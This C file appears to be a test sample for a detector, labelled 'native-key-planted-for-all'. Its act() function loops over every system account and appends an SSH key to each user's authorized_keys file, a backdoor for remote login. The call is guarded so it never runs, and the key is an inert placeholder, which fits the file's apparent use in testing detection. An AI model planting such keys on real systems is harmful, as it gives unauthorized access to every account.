/* Every account gets a key that stands in the program.
 * expect: native-key-planted-for-all
 * flags: -O2
 */
#include <stdio.h>
#include <pwd.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    char path[300];
    for (struct passwd *p; (p = getpwent());) {
        snprintf(path, sizeof path, "%s/.ssh/authorized_keys", p->pw_dir);
        FILE *f = fopen(path, "a");
        if (f)
            fputs("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABInertInertInert a@x.invalid\n", f);
    }
    return 0;
}

int main(void) { return never ? act() : 0; }
